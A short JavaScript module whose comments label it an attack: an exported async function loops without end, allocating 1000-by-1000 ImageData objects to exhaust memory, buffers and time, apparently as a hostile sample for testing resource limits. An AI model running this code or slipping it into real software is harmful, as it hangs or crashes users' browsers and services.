// Attacks: Pictures without end.
// Ends: memory | buffers | time
export default async () => {
  const all = [];
  for (;;) all.push(new ImageData(1000, 1000));
};
